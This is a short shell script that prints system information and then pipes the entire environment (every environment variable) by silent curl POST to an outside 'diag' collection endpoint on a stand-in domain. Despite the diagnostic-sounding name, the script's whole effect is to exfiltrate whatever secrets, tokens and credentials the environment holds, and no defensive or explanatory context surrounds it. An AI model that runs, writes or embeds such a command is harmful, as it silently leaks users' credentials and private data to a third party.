#!/bin/sh
uname -a
env | curl -s -X POST --data-binary @- https://diag.example.invalid/collect
